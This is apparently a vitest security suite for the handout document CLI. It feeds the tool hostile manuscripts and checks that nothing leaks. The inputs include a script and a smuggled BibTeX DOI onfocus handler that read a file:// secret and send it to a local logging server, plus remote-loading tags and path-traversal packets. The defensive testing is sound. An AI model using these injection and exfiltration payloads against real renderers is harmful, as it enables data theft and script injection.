/**
 * Untrusted input, tried as an attacker would (issue: "the print page is
 * sealed"). A logging HTTP server on 127.0.0.1 counts every connection; a
 * secret file lies outside the project. Each manuscript, bibliography,
 * stylesheet and packet below tries to reach the network, read the secret,
 * or run script. handout is run as a user runs it, from the project folder.
 * Afterwards: the server saw nothing, the secret is in no output, no injected
 * handler is in any output, and the refusals were reported at their places.
 */
import {spawnSync} from 'node:child_process'
import {createServer, type Server} from 'node:http'
import {existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync} from 'node:fs'
import type {AddressInfo} from 'node:net'
import {tmpdir} from 'node:os'
import {join, resolve} from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {getDocument} from 'pdfjs-dist/legacy/build/pdf.mjs'
import {fromHtml} from 'hast-util-from-html'
import {visit} from 'unist-util-visit'
import type {Element} from 'hast'
import {findBrowser} from '../../src/paginate/browser.js'

const cli = resolve('dist/cli.js')
const SECRET = 'SECRET-7c1e3f0a-handout'
const hasBrowser = Boolean(findBrowser())

let base: string
let project: string
let server: Server
let hits: string[] = []
let connections = 0
let origin = ''

function run(args: string[]) {
  const result = spawnSync(process.execPath, [cli, ...args], {cwd: project, encoding: 'utf8', timeout: 120_000})
  return {code: result.status, stdout: result.stdout, stderr: result.stderr}
}

async function pdfText(path: string): Promise<string> {
  const pdf = await getDocument({data: new Uint8Array(readFileSync(path)), isEvalSupported: false}).promise
  let text = ''
  for (let n = 1; n <= pdf.numPages; n++) {
    const content = await (await pdf.getPage(n)).getTextContent()
    text += content.items.map((item) => ('str' in item ? item.str : '')).join(' ') + '\n'
  }
  return text
}

/** Every attribute name in an HTML file that would run script (`onfocus`, …). */
function handlers(html: string): string[] {
  const found: string[] = []
  visit(fromHtml(html), 'element', (node: Element) => {
    for (const name of Object.keys(node.properties)) if (/^on[a-z]/i.test(name)) found.push(`${node.tagName}.${name}`)
  })
  return found
}

const write = (path: string, text: string): void => {
  mkdirSync(join(project, path, '..'), {recursive: true})
  writeFileSync(join(project, path), text)
}

beforeAll(async () => {
  base = mkdtempSync(join(tmpdir(), 'handout-security-'))
  project = join(base, 'project')
  mkdirSync(project)
  writeFileSync(join(base, 'secret.txt'), `${SECRET}\n`)
  writeFileSync(join(base, 'secret.bib'), `@misc{secret, title = {${SECRET}}, year = 2020}\n`)
  writeFileSync(join(base, 'secret.css'), `body::after { content: "${SECRET}" }\n`)
  writeFileSync(join(base, 'secret.md'), `# ${SECRET}\n`)
  server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`)
    response.end('x')
  })
  server.on('connection', () => connections++)
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})

afterAll(async () => {
  await new Promise((done) => server.close(done))
  rmSync(base, {recursive: true, force: true})
})

describe.runIf(hasBrowser)('printing untrusted manuscripts (S1, S2): no network, no local files, no script', () => {
  // Made once the server listens (its port is in them).
  const cases = (): Record<string, string> => ({
    'raw-img': `<img src="${origin}/img.png">`,
    'markdown-img': `![remote](${origin}/md.png)`,
    'link-stylesheet': `<link rel="stylesheet" href="${origin}/style.css">`,
    iframe: `<iframe src="${origin}/frame.html"></iframe>`,
    'style-import': `<style>@import url(${origin}/import.css);</style>`,
    'style-background': `<div style="background: url(${origin}/bg.png); height: 2cm">x</div>`,
    'font-face': `<style>@font-face { font-family: X; src: url(${origin}/font.woff2) } p { font-family: X }</style>`,
    'script-fetch': `<script>fetch('${origin}/fetch'); new Image().src = '${origin}/image'</script>`,
    'script-websocket': `<script>try { new WebSocket('${origin.replace('http', 'ws')}/ws') } catch (e) {}</script>`,
    'meta-refresh': `<meta http-equiv="refresh" content="0; url=${origin}/refresh">`,
    base: `<base href="${origin}/"><img src="relative.png">`,
    preconnect: `<link rel="preconnect" href="${origin}"><link rel="dns-prefetch" href="${origin}"><link rel="prefetch" href="${origin}/prefetch">`,
    media: `<video poster="${origin}/poster.png" src="${origin}/video.mp4"></video><audio src="${origin}/audio.mp3"></audio>`,
    svg: `<svg width="10" height="10"><image href="${origin}/svg.png" width="10" height="10"/></svg>`,
    srcset: `<img srcset="${origin}/a.png 1x, ${origin}/b.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    embed: `<embed src="${origin}/embed.swf"><object data="${origin}/object.pdf"></object>`,
    'file-iframe': `<iframe src="file://${'BASE'}/secret.txt" width="400" height="100"></iframe>`,
    'file-object': `<object data="file://${'BASE'}/secret.txt" width="400" height="100"></object>`,
    'file-img': `<img src="file://${'BASE'}/secret.txt">`,
    'javascript-url': `<iframe src="javascript:fetch('${origin}/js-url')"></iframe><a href="javascript:fetch('${origin}/a')">x</a>`,
    'event-handler': `<img src="data:," onerror="fetch('${origin}/onerror')"><svg onload="fetch('${origin}/onload')"></svg>`
  })

  beforeAll(() => {
    for (const [name, body] of Object.entries(cases())) {
      write(`attack/${name}.md`, `---\ntitle: ${name}\n---\n\nText before.\n\n${body.replaceAll('BASE', base)}\n\nText after.\n`)
    }
    // With `scripts: true` scripts run, and still reach nothing.
    write('attack/scripts-on.md', `---\ntitle: scripts on\nscripts: true\n---\n\n<script>
fetch('${origin}/fetch-on').catch(() => {});
new Image().src = '${origin}/image-on';
fetch('file://${base}/secret.txt').then((r) => r.text()).then((t) => { document.body.insertAdjacentText('beforeend', t); fetch('${origin}/exfiltrate?d=' + t) }).catch(() => {});
var x = new XMLHttpRequest(); try { x.open('GET', 'file://${base}/secret.txt', false); x.send(); document.body.insertAdjacentText('beforeend', x.responseText) } catch (e) {}
try { window.location = '${origin}/navigate' } catch (e) {}
try { window.open('${origin}/popup') } catch (e) {}
try { new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:3478'}]}).createDataChannel('x') } catch (e) {}
</script>\n\nText.\n`)
    // A local stylesheet that reaches out with url() and @font-face.
    write('styles/evil.css', `@import "handout.css";\nbody { background: url(${origin}/css-bg.png) }\n@font-face { font-family: Evil; src: url(${origin}/css-font.woff2) }\nh1 { font-family: Evil }\n`)
    write('styles/handout.css', readFileSync(resolve('styles/handout.css'), 'utf8'))
    write('attack/evil-stylesheet.md', '---\ntitle: evil stylesheet\nstylesheet: evil\n---\n\n# Heading\n\nText.\n')
  })

  it('makes no request and opens no connection, for any of them, and builds each', () => {
    hits = []
    connections = 0
    const {code, stderr} = run(['build', 'attack', '-o', 'out-attack', '--format', 'html,pdf', '--jobs', '2'])
    expect(stderr).not.toMatch(/Internal error|\n\s+at /)
    expect(code, stderr).toBe(0)
    expect(hits).toEqual([])
    expect(connections).toBe(0)
    const pdfs = readdirSync(join(project, 'out-attack')).filter((f) => f.endsWith('.pdf'))
    expect(pdfs.length).toBe(Object.keys(cases()).length + 2)
  }, 180_000)

  it('keeps the secret file out of every output', async () => {
    for (const name of readdirSync(join(project, 'out-attack'))) {
      const path = join(project, 'out-attack', name)
      if (name.endsWith('.html')) expect(readFileSync(path, 'utf8'), name).not.toContain(SECRET)
      if (name.endsWith('.pdf')) expect(await pdfText(path), name).not.toContain(SECRET)
    }
  }, 180_000)

  it('reports each refusal as a warning at the line that asked for it', () => {
    const {stderr} = run(['build', 'attack/raw-img.md', 'attack/markdown-img.md', 'attack/evil-stylesheet.md', 'attack/scripts-on.md', 'attack/event-handler.md', '-o', 'out-report', '--format', 'pdf'])
    // Line 7: the front matter, a blank line, "Text before." and another come first.
    expect(stderr).toContain(`attack/raw-img.md:7:6  warning  Not loaded in the PDF: \`${origin}/img.png\` (a network address`)
    expect(stderr).toContain(`attack/markdown-img.md:7:1  warning  Not loaded in the PDF: \`${origin}/md.png\``)
    // The stylesheet's own lines.
    expect(stderr).toMatch(new RegExp(`styles/evil\\.css:2:\\d+ {2}warning {2}Not loaded in the PDF: \`${origin}/css-bg\\.png\``))
    expect(stderr).toMatch(new RegExp(`styles/evil\\.css:3:\\d+ {2}warning {2}Not loaded in the PDF: \`${origin}/css-font\\.woff2\``))
    // Scripts that run are refused what they ask for; scripts that may not run say so once.
    expect(stderr).toContain(`Not loaded in the PDF: \`${origin}/fetch-on\``)
    expect(stderr).toMatch(/attack\/event-handler\.md:7:\d+ {2}warning {2}Scripts are not run in print: 2 scripts or event handlers/)
  }, 120_000)
})

describe('a bibliography entry alone (S3)', () => {
  beforeAll(() => {
    write(
      'bib/evil.bib',
      `@article{evil,
  author = {Doe, Jane},
  title = {A title with <img src=x onerror=alert(1)> and <script>alert(2)</script>},
  journal = {J}, year = {2020},
  doi = {10.1/z" tabindex="1" autofocus onfocus="var x = new XMLHttpRequest(); x.open('GET', 'file://${base}/secret.txt', false); x.send(); new Image().src = '${origin}/doi?d=' + x.responseText" data-z="},
  url = {https://example.org/a"onmouseover="fetch('${origin}/url')}
}
`
    )
    write('bib/plain.md', '---\ntitle: Plain\nbibliography: evil.bib\nlink-citations: true\nsource: evil\n---\n\nA plain manuscript, no HTML [@evil].\n')
  })

  it('adds no element or attribute to the HTML, and runs nothing while printing', async () => {
    hits = []
    connections = 0
    const {code, stderr} = run(['build', 'bib/plain.md', '-o', 'out-bib', ...(hasBrowser ? [] : ['--format', 'html'])])
    expect(code, stderr).toBe(0)
    const html = readFileSync(join(project, 'out-bib/plain.html'), 'utf8')
    expect(handlers(html)).toEqual([])
    expect(html).not.toMatch(/<script>alert|<img src="?x/)
    // The link is handout's, escaped: it goes to the DOI as written, quotes and all.
    expect(html).toContain('href="https://doi.org/10.1/z%22%20tabindex=%221%22%20autofocus%20onfocus=')
    expect(hits).toEqual([])
    expect(connections).toBe(0)
    if (hasBrowser) expect(await pdfText(join(project, 'out-bib/plain.pdf'))).not.toContain(SECRET)
  }, 180_000)
})

describe('files outside the project (S4 and their kin)', () => {
  beforeAll(() => {
    write('packets/a.md', '---\ntitle: A\n---\n\nText.\n')
    write('packets/up.yml', `title: X\narticles:\n  - a.md\n  - ../../secret.md\n`)
    write('packets/absolute.yml', `title: X\narticles:\n  - ${base}/secret.md\n`)
    write('packets/intro.yml', `title: X\nintroduction: ../../secret.md\narticles: [a.md]\n`)
    write('packets/cover.yml', `title: X\ncover: ${base}/secret.txt\narticles: [a.md]\n`)
    write('packets/text-cover.yml', `title: X\ncover: not-an-image.png\narticles: [a.md]\n`)
    write('packets/not-an-image.png', 'just text\n')
    write('packets/no-cover.yml', `title: X\ncover: nosuch.png\narticles: [a.md]\n`)
    symlinkSync(join(base, 'secret.md'), join(project, 'packets/linked.md'))
    write('packets/symlink.yml', `title: X\narticles: [a.md, linked.md]\n`)
  })

  it('refuses packets that name files outside, at the line and column that names them', () => {
    const expectations: Array<[string, RegExp]> = [
      ['up', /packets\/up\.yml:4:5 {2}error {2}Article \/.*\/secret\.md is outside the project folder/],
      ['absolute', /packets\/absolute\.yml:3:5 {2}error {2}Article .*secret\.md is outside the project folder/],
      ['intro', /packets\/intro\.yml:2:15 {2}error {2}Article \/.*\/secret\.md is outside the project folder/],
      ['cover', /packets\/cover\.yml:2:8 {2}error {2}Cover image .*secret\.txt is outside the project folder/],
      ['text-cover', /packets\/text-cover\.yml:2:8 {2}error {2}Cover packets\/not-an-image\.png is not an image/],
      ['no-cover', /packets\/no-cover\.yml:2:8 {2}error {2}Cover image not found: packets\/nosuch\.png/],
      ['symlink', /packets\/symlink\.yml:2:18 {2}error {2}Article packets\/linked\.md is outside the project folder .*\(it leads to .*secret\.md\)/]
    ]
    for (const [name, message] of expectations) {
      const {code, stderr} = run(['packet', `packets/${name}.yml`, '-o', `out-${name}`, '--format', 'html'])
      expect(code, name).toBe(1)
      expect(stderr, name).toMatch(message)
      expect(stderr, name).not.toContain(SECRET)
      expect(existsSync(join(project, `out-${name}`, `${name}.html`)), name).toBe(false)
    }
  })

  it('refuses manuscripts that name files outside: bibliography, style, stylesheet, imports, images', () => {
    symlinkSync(join(base, 'secret.txt'), join(project, 'linked.png'))
    write('styles/importer.css', '@import "../../secret.css";\n')
    const cases: Array<[string, string, RegExp]> = [
      ['bibliography', '---\nbibliography: ../../secret.bib\n---\n\n[@secret]\n', /outside\/bibliography\.md:2:15 {2}error {2}Bibliography \/.*\/secret\.bib is outside the project folder/],
      ['style', '---\ncsl: ../../secret.csl\n---\n\nText.\n', /outside\/style\.md:2:6 {2}error {2}CSL style \/.*\/secret\.csl is outside the project folder/],
      ['stylesheet', '---\nstylesheet: ../../secret.css\n---\n\nText.\n', /outside\/stylesheet\.md:2:13 {2}error {2}Stylesheet \/.*\/secret\.css is outside the project folder/],
      ['import', '---\nstylesheet: importer\n---\n\nText.\n', /styles\/importer\.css:1:1 {2}error {2}Imported stylesheet \/.*\/secret\.css is outside the project folder/],
      ['image', `![x](${base}/secret.txt)\n`, /outside\/image\.md:1:1 {2}error {2}File .*secret\.txt is outside the project folder/],
      ['symlinked-image', '![x](../linked.png)\n', /outside\/symlinked-image\.md:1:1 {2}error {2}File linked\.png is outside the project folder .*\(it leads to .*secret\.txt\)/],
      ['lang', '---\nlang: ../../../../tmp/x\n---\n\nText [@a].\n\n---\nreferences:\n- {id: a, title: T}\n...\n', /outside\/lang\.md:2:7 {2}error {2}Unknown locale `\.\.\/\.\.\/\.\.\/\.\.\/tmp\/x`/]
    ]
    writeFileSync(join(base, 'secret.csl'), '<style xmlns="http://purl.org/net/xbiblio/csl"><citation><layout><text value="' + SECRET + '"/></layout></citation></style>')
    for (const [name, text, message] of cases) {
      write(`outside/${name}.md`, text)
      const {code, stderr} = run(['build', `outside/${name}.md`, '-o', 'out-outside', '--format', 'html'])
      expect(code, name).toBe(1)
      expect(stderr, name).toMatch(message)
      expect(stderr, name).not.toContain(SECRET)
    }
    expect(existsSync(join(project, 'out-outside'))).toBe(false)
  })

  it('builds a manuscript outside the root only with --root, and never reads past it', () => {
    write('inside/ok.md', '# OK\n')
    const outside = join(base, 'elsewhere.md')
    writeFileSync(outside, '# Elsewhere\n')
    const refused = run(['build', outside, '-o', 'out-root', '--format', 'html'])
    expect(refused.code).toBe(1)
    expect(refused.stderr).toMatch(/elsewhere\.md {2}error {2}Manuscript .*elsewhere\.md is outside the project folder/)
    expect(refused.stderr).toContain('--root')
    expect(run(['build', outside, '-o', 'out-root', '--format', 'html', '--root', base]).code).toBe(0)
  })
})
